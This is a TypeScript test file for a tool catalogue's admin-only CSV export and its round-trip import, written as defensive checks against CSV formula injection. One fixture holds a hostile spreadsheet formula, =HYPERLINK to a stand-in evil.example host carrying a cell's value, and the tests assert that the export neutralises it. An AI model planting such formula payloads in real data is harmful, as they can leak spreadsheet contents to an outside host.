import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, createAdmin, createCustomer, type TestUser } from '../../../tests/support/accounts';
import { catalogueSnapshot, csvFile, importCsv } from '../../../tests/support/catalogue-csv';
import { createCategory, createTools } from '../../../tests/support/factories';
import { createTestApp, type TestApp } from '../../../tests/support/test-app';
import { API_ERRORS, CATALOGUE_CSV_COLUMNS, type ImportReport, type ToolDetail } from '../../shared';
import { categories, tools } from '../db/schema';
import { CSV_BOM } from '../lib/csv';
import { parseCsv } from '../lib/parse-csv';
import { catalogueCsvChunks } from './catalogue-export';

/** GET /api/items/export: who may have it, what is in it, and that importing it changes nothing. */
let t: TestApp;
let admin: TestUser;
let customer: TestUser;

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';

beforeAll(async () => {
  t = await createTestApp();
  admin = await createAdmin(t.app, t.database.db);
  customer = await createCustomer(t.app);
  const top = await createCategory(t.database.db, 'Hand tools');
  const sub = await createCategory(t.database.db, 'Wrenches > Torque', top.id);
  await createTools(t.database.db, 1, { sku: 'EXP-1', name: 'Plain Hammer', categoryId: top.id, specs: [] });
  await createTools(t.database.db, 1, {
    sku: 'exp-2',
    name: HOSTILE_NAME,
    categoryId: sub.id,
    description: '-Leading minus, "quotes", commas, and\nline breaks; semicolons too',
    specs: [
      { name: 'Torque', value: '40–200', unit: 'Nm' },
      { name: 'Drive: square', value: '1/2" [12.7 mm]; steel\\chrome' },
      { name: '@Grip', value: "'=not a formula" },
    ],
    photos: ['https://images.example.com/w1.webp', 'https://images.example.com/w2.webp'],
    image: 'https://images.example.com/w1.webp',
    taxClass: 'reduced',
  });
  await createTools(t.database.db, 1, { sku: 'EXP-3', name: "'Quoted' Pliers", categoryId: top.id, minQty: 10, availableQty: 0, taxClass: 'exempt' });
});
afterAll(() => t.close());

const exportCsv = (headers: Record<string, string> = bearer(admin)) => t.app.inject({ method: 'GET', url: '/api/items/export', headers });

describe('who may export', () => {
  it('admins, by bearer token or by the session cookie (a plain link); not customers or strangers', async () => {
    expect((await exportCsv()).statusCode).toBe(200);
    expect((await exportCsv({ cookie: admin.cookie })).statusCode).toBe(200);
    const anonymous = await exportCsv({});
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.json().detail).toBe(API_ERRORS.signInRequired);
    expect((await exportCsv(bearer(customer))).statusCode).toBe(403);
    expect((await exportCsv({ cookie: customer.cookie })).statusCode).toBe(403);
  });
});

describe('the file', () => {
  it('is a CSV download, never cached, with the import\'s columns and a row per tool in catalogue order', async () => {
    const res = await exportCsv();
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="catalogue-${new Date().toISOString().slice(0, 10)}.csv"`);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.body.startsWith(CSV_BOM)).toBe(true);
    const [header, ...rows] = parseCsv(res.body);
    expect(header).toEqual([...CATALOGUE_CSV_COLUMNS]);
    // New columns come last: a reader by position finds the older ones where they were.
    expect(header).toEqual(['sku', 'name', 'category', 'price', 'minQty', 'availableQty', 'description', 'image', 'specifications', 'taxClass']);
    expect(rows.map((row) => row[0])).toEqual(['EXP-1', 'exp-2', 'EXP-3']);
    const [topName, subName] = (await t.database.db.select({ name: categories.name }).from(categories).orderBy(categories.position)).map((c) => c.name);
    expect(rows[0]).toEqual(['EXP-1', 'Plain Hammer', topName, expect.stringMatching(/^\d+\.\d\d$/), '5', '100', expect.any(String), '/images/tools/digital-multimeter.svg', '', 'standard']);
    expect(rows[1]).toEqual([
      'exp-2',
      // Formula cells are neutralised with a leading apostrophe (exports/csv.ts); the import takes it away again.
      `'${HOSTILE_NAME}`,
      `${topName} > ${subName!.replace('>', '\\>')}`,
      expect.any(String),
      '5',
      '100',
      '\'-Leading minus, "quotes", commas, and\nline breaks; semicolons too',
      'https://images.example.com/w1.webp',
      "Torque: 40–200 [Nm]; Drive\\: square: 1/2\" \\[12.7 mm\\]\\; steel\\\\chrome; @Grip: '=not a formula",
      'reduced',
    ]);
    expect(rows[2]!.slice(1, 6)).toEqual(["'Quoted' Pliers", topName, expect.any(String), '10', '0']);
    expect(rows[2]!.at(-1)).toBe('exempt');
  });

  it('reads the catalogue a page at a time: small pages give the same file', async () => {
    const chunks = async (pageSize?: number) => {
      let text = '';
      for await (const chunk of catalogueCsvChunks(t.database.db, pageSize)) text += chunk;
      return text;
    };
    expect(await chunks(1)).toBe(await chunks());
    expect(await chunks(2)).toBe(await chunks());
  });
});

describe('importing an export', () => {
  it('changes nothing: every row unchanged, the catalogue as it was, the next export the same bytes', async () => {
    // Reduced and exempt tools among them (beforeAll has one of each): their classes round-trip too.
    await createTools(t.database.db, 29);
    // Stored before today's rules: a description longer than the form allows, an http photo.
    await createTools(t.database.db, 1, { description: `Older text. ${'x'.repeat(300)}`, image: 'http://old.example.com/tool.png', photos: ['http://old.example.com/tool.png'] });
    const first = await exportCsv();
    const before = await catalogueSnapshot(t.database.db);

    const dryRun = await importCsv(t.app, admin, first.rawPayload, { dryRun: true });
    expect(dryRun.statusCode, dryRun.body).toBe(200);
    const res = await importCsv(t.app, admin, first.rawPayload);
    expect(res.statusCode, res.body).toBe(200);
    const report = res.json<ImportReport>();
    expect(report).toMatchObject({ rows: 33, created: 0, updated: 0, unchanged: 33, categoriesCreated: [], problems: [] });

    // Only the import's own audit entry is new.
    const { audit: auditBefore, ...catalogueBefore } = JSON.parse(before) as { audit: unknown[] };
    const { audit: auditAfter, ...catalogueAfter } = JSON.parse(await catalogueSnapshot(t.database.db)) as { audit: unknown[] };
    expect(catalogueAfter).toEqual(catalogueBefore);
    expect(auditAfter).toHaveLength(auditBefore.length + 1);
    expect((await exportCsv()).body).toBe(first.body);
    const classes = async () => Object.fromEntries((await t.database.db.select({ sku: tools.sku, taxClass: tools.taxClass }).from(tools)).map((tool) => [tool.sku, tool.taxClass]));
    expect(await classes()).toMatchObject({ 'EXP-1': 'standard', 'exp-2': 'reduced', 'EXP-3': 'exempt' });
  });

  it('an export whose class cells are edited (in any case) updates those tools only, and reads back as exported', async () => {
    const [header, ...rows] = parseCsv((await exportCsv()).body);
    // The cells exactly as exported (apostrophes and all), but for two classes typed by hand.
    const typed: Record<string, string> = { 'EXP-1': ' Exempt', 'EXP-3': 'REDUCED' };
    const edited = rows.map((cells) => ({ ...Object.fromEntries(header!.map((column, i) => [column, cells[i]!])), ...(typed[cells[0]!] !== undefined && { taxClass: typed[cells[0]!] }) }));
    const res = await importCsv(t.app, admin, csvFile(edited, { columns: header! }));
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json<ImportReport>()).toMatchObject({ updated: 2, unchanged: rows.length - 2, problems: [] });

    const idOf = async (sku: string) => (await t.database.db.select({ id: tools.id }).from(tools).where(eq(tools.sku, sku)))[0]!.id;
    const classOf = async (sku: string) => (await t.app.inject({ method: 'GET', url: `/api/items/${await idOf(sku)}` })).json<ToolDetail>().taxClass;
    expect(await classOf('EXP-1')).toBe('exempt');
    expect(await classOf('EXP-3')).toBe('reduced');
    expect(await classOf('exp-2')).toBe('reduced');

    // Written back lower case, and that export imports as unchanged.
    const again = await exportCsv();
    const [, ...rowsAgain] = parseCsv(again.body);
    expect(rowsAgain.find((cells) => cells[0] === 'EXP-1')!.at(-1)).toBe('exempt');
    expect(rowsAgain.find((cells) => cells[0] === 'EXP-3')!.at(-1)).toBe('reduced');
    const reimported = await importCsv(t.app, admin, again.rawPayload);
    expect(reimported.json<ImportReport>()).toMatchObject({ updated: 0, unchanged: rows.length, problems: [] });
  });
});
